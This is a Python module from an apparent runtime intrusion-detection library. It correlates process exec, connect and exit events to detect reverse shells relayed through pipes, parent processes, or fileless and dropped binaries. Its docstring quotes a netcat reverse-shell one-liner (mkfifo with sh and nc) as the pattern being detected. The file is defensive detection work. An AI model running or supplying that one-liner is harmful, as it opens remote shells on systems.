"""Shells that reach the network through somebody else: `mkfifo f; sh <f | nc HOST PORT >f` and its kind.

No single event shows it. This tracker joins three: a shell that starts with pipes for input and output and no command
of its own, a process that reads what the shell writes (or is the shell's parent), and that process's connection to the
outside. Pure: it is told events and answers facts; its tables are bounded.
"""

from collections import OrderedDict
from collections.abc import Mapping
from typing import Any

from seawall.runtime.detect.fields import is_loopback
from seawall.runtime.detect.shells import is_bare_shell, is_shell
from seawall.runtime.model import Address, Event, Kind, Process

MAX_ENTRIES = 4096
"""Of each table; the oldest are forgotten first."""
MAX_AGE = 3600.0
"""Seconds after which an outgoing connection no longer counts."""
PARENTS = 2
"""How far above the shell the process with the connection may be."""
EINPROGRESS = -115

Identity = tuple[int, int]
Pipe = tuple[str, int]
NOTHING: Mapping[str, Any] = {}


class Relays:
    """Remembers shells on pipes and processes with outgoing connections; says when the two belong together."""

    KINDS = (Kind.EXEC, Kind.CONNECT, Kind.EXIT)

    def __init__(self) -> None:
        self._shells: OrderedDict[Pipe, Identity] = OrderedDict()
        self._relays: OrderedDict[Pipe, tuple[Identity, Address]] = OrderedDict()
        self._dialled: OrderedDict[Identity, tuple[float, Address]] = OrderedDict()

    def observe(self, event: Event) -> Mapping[str, Any]:
        """{"relay": "pipe"|"parent"|"fileless"|"dropped", "relay_peer": Address, "relay_pid": int}, or nothing."""
        if event.kind is Kind.EXEC:
            return self._exec(event)
        if event.kind is Kind.CONNECT:
            return self._connect(event)
        if event.kind is Kind.EXIT:
            self._forget(event.process)
        return NOTHING

    def _exec(self, event: Event) -> Mapping[str, Any]:
        process = event.process
        dialled = self._dialled.get(_identity(process))
        if dialled is not None:
            self._remember_relay(process, dialled[1])
        if not is_bare_shell(process):
            return self._dropper(event)
        for pipe in _pipes(process, 1):
            held = self._relays.get(pipe)
            if held is not None and held[0] != _identity(process):
                return {"relay": "pipe", "relay_peer": held[1], "relay_pid": held[0][0]}
        for pipe in _pipes(process, 1):
            _put(self._shells, pipe, _identity(process))
        return self._parents(event)

    def _parents(self, event: Event) -> Mapping[str, Any]:
        parent = event.process.parent
        for _ in range(PARENTS):
            if parent is None or _place(parent) != _place(event.process):
                return NOTHING
            dialled = self._dialled.get(_identity(parent))
            if dialled is not None and event.time - dialled[0] <= MAX_AGE:
                return {"relay": "parent", "relay_peer": dialled[1], "relay_pid": parent.pid}
            parent = parent.parent
        return NOTHING

    def _dropper(self, event: Event) -> Mapping[str, Any]:
        """A shell started by a program that has dialled out and has no file, or one that is not the image's."""
        process = event.process
        if process.container is None or not is_shell(process):
            return NOTHING
        parent = process.parent
        for _ in range(PARENTS):
            if parent is None or parent.container is not process.container:
                return NOTHING
            dialled = self._dialled.get(_identity(parent))
            file = parent.file
            if dialled is not None and file is not None and event.time - dialled[0] <= MAX_AGE:
                if file.memfd or file.deleted:
                    return {"relay": "fileless", "relay_peer": dialled[1], "relay_pid": parent.pid}
                if file.upper:
                    return {"relay": "dropped", "relay_peer": dialled[1], "relay_pid": parent.pid}
            parent = parent.parent
        return NOTHING

    def _connect(self, event: Event) -> Mapping[str, Any]:
        peer = event.peer
        if peer is None or peer.family == "unix" or not peer.port or is_loopback(peer.host):
            return NOTHING
        if event.result < 0 and event.result != EINPROGRESS:
            return NOTHING
        process = event.process
        _put(self._dialled, _identity(process), (event.time, peer))
        self._remember_relay(process, peer)
        for pipe in _pipes(process, 0):
            shell = self._shells.get(pipe)
            if shell is not None and shell != _identity(process):
                return {"relay": "pipe", "relay_peer": peer, "relay_pid": process.pid}
        return NOTHING

    def _remember_relay(self, process: Process, peer: Address) -> None:
        for pipe in _pipes(process, 0):
            _put(self._relays, pipe, (_identity(process), peer))

    def _forget(self, process: Process) -> None:
        self._dialled.pop(_identity(process), None)
        if not process.stdio or not (self._shells or self._relays):
            return
        for pipe in (*_pipes(process, 0), *_pipes(process, 1)):
            if self._shells.get(pipe) == _identity(process):
                del self._shells[pipe]
            if pipe in self._relays and self._relays[pipe][0] == _identity(process):
                del self._relays[pipe]


def _pipes(process: Process, number: int) -> list[Pipe]:
    """What a shell says goes through its 1 into the relay's 0. A download that is fed to a shell has no such pipe."""
    place = _place(process)
    return [
        (place, found.inode)
        for found in process.stdio
        if found.number == number and found.type == "pipe" and found.inode
    ]


def _place(process: Process) -> str:
    return process.container.id if process.container is not None else ""


def _identity(process: Process) -> Identity:
    return process.pid, process.start


def _put(table: OrderedDict[Any, Any], key: Any, value: Any) -> None:
    table[key] = value
    table.move_to_end(key)
    if len(table) > MAX_ENTRIES:
        table.popitem(last=False)
